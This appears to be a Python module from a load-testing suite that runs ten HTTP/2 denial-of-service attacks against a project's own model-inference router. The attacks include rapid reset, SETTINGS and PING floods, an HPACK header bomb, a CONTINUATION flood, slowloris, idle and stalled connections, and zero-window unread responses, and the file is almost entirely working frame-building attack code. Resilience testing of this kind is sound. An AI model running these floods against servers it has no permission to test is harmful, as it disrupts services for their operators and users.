"""What a client of HTTP/2 can do to a server below the calls."""

import socket
import struct
from collections.abc import Callable, Iterable
from contextlib import ExitStack, suppress

import numpy as np

from hasten_runtime.fields import varint
from hasten_runtime.protocol_names import MODEL_INFER
from loadtest import frames
from loadtest.attacks.where import MODEL, Where, connected, drained, sent
from loadtest.call import serialised

IDLE_CONNECTIONS = 1100
CONTINUATION = 9
HALF_BYTES = 4 * 2**20
LITERAL_KEPT = b"\x40"
ENTRY_BYTES = 4000
ENTRY = 0xBE
"""The newest entry of HPACK's dynamic table, by its number."""


def _greeted(where: Where, window: int = frames.WINDOW_MAX) -> socket.socket:
    connection = connected(where.router)
    hello = frames.settings((frames.TABLE_SIZE, 0), (frames.PUSH, 0), (frames.WINDOW, window))
    connection.sendall(frames.PREFACE + hello + frames.frame(frames.SETTINGS, frames.ACK, 0))
    return connection


def _begun(where: Where, stream: int) -> bytes:
    """A call's head; its request is still to come."""
    block = frames.request_block(MODEL_INFER, where.router)
    return frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)


def _flood(where: Where, round_of: Callable[[int], bytes]) -> None:
    """Sends rounds on one connection after the other, as each is cut."""
    while not where.over:
        with suppress(OSError), _greeted(where) as connection:
            number = 0
            while sent(connection, round_of(number)) and drained(connection):
                number += 1
                if where.over:
                    return
        where.rest(0.01)


def resets(where: Where) -> None:
    """Calls that are reset as they begin: "rapid reset"."""
    reset = frames.number(frames.CANCEL)

    def round_of(number: int) -> bytes:
        first = 1 + 200 * number
        return b"".join(
            _begun(where, stream) + frames.frame(frames.RST_STREAM, 0, stream, reset)
            for stream in range(first, first + 200, 2)
        )

    _flood(where, round_of)


def settings(where: Where) -> None:
    """SETTINGS without end."""
    _flood(where, lambda _: frames.settings((frames.WINDOW, 65_535)) * 500)


def pings(where: Where) -> None:
    """PINGs without end."""
    _flood(where, lambda _: frames.frame(frames.PING, 0, 0, bytes(8)) * 500)


def header_bomb(where: Where) -> None:
    """A header of 4 kB that is kept in the table and then named a thousand times by one byte."""
    value = b"\x01a" + b"\x7f" + varint(ENTRY_BYTES - 127) + b"v" * ENTRY_BYTES

    def round_of(number: int) -> bytes:
        block = frames.request_block(MODEL_INFER, where.router)
        block += (LITERAL_KEPT + value if number == 0 else b"") + bytes((ENTRY,)) * 1000
        return frames.frame(frames.HEADERS, frames.END_HEADERS, 1 + 2 * number, block)

    _flood(where, round_of)


def continuations(where: Where) -> None:
    """A header block that has no end."""
    field = b"\x00\x01a\x7f" + varint(8000 - 127) + b"v" * 8000

    def round_of(number: int) -> bytes:
        if number == 0:
            block = frames.request_block(MODEL_INFER, where.router)
            return frames.frame(frames.HEADERS, 0, 1, block)
        return frames.frame(CONTINUATION, 0, 1, field)

    _flood(where, round_of)


def idle_connections(where: Where) -> None:
    """1,100 connections that say nothing."""
    with ExitStack() as opened:
        for _ in range(IDLE_CONNECTIONS):
            if where.over:
                return
            with suppress(OSError):
                opened.enter_context(connected(where.router))
        while not where.over:
            where.rest()


def slowloris(where: Where) -> None:
    """300 connections whose greeting comes byte by byte."""
    with ExitStack() as opened:
        crowd = []
        for _ in range(300):
            with suppress(OSError):
                crowd.append(opened.enter_context(connected(where.router)))
        for byte in frames.PREFACE:
            for connection in crowd:
                sent(connection, bytes((byte,)))
            where.rest(0.2)
            if where.over:
                return
        while not where.over:
            where.rest()


def idle_streams(where: Where) -> None:
    """2,000 calls that begin and do not go on."""
    with ExitStack() as opened:
        for _ in range(20):
            with suppress(OSError):
                connection = opened.enter_context(_greeted(where))
                sent(connection, b"".join(_begun(where, 1 + 2 * each) for each in range(100)))
        while not where.over:
            where.rest()


def stalled_uploads(where: Where) -> None:
    """100 requests that say they are large and stop half way."""
    body = b"\0" + struct.pack(">I", HALF_BYTES) + bytes(32 * 1024)
    parts = [body[at : at + frames.FRAME_BYTES] for at in range(0, len(body), frames.FRAME_BYTES)]
    with ExitStack() as opened:
        for _ in range(100):
            with suppress(OSError):
                connection = opened.enter_context(_greeted(where))
                data = (frames.frame(frames.DATA, 0, 1, part) for part in parts)
                sent(connection, _begun(where, 1) + b"".join(data))
        while not where.over:
            where.rest()


def unread_answers(where: Where) -> None:
    """Calls with answers of 64 KiB that nobody takes."""
    payload = serialised(MODEL, "INPUT", np.ones((1, 16 * 1024), np.float32))
    body = frames.message(payload)
    size = frames.FRAME_BYTES
    parts = [body[at : at + size] for at in range(0, len(body), size)]

    def call(stream: int) -> bytes:
        *most, last = parts
        data = b"".join(frames.frame(frames.DATA, 0, stream, part) for part in most)
        return (
            _begun(where, stream)
            + data
            + frames.frame(frames.DATA, frames.END_STREAM, stream, last)
        )

    with ExitStack() as opened:
        crowd = []
        for _ in range(20):
            with suppress(OSError):
                crowd.append(opened.enter_context(_greeted(where, window=0)))
        stream = 1
        while not where.over:
            for connection in crowd:
                sent(connection, call(stream))
            stream += 2
            where.rest(0.02)


ATTACKS: Iterable[Callable[[Where], None]] = (
    resets,
    settings,
    pings,
    header_bomb,
    continuations,
    idle_connections,
    slowloris,
    idle_streams,
    stalled_uploads,
    unread_answers,
)
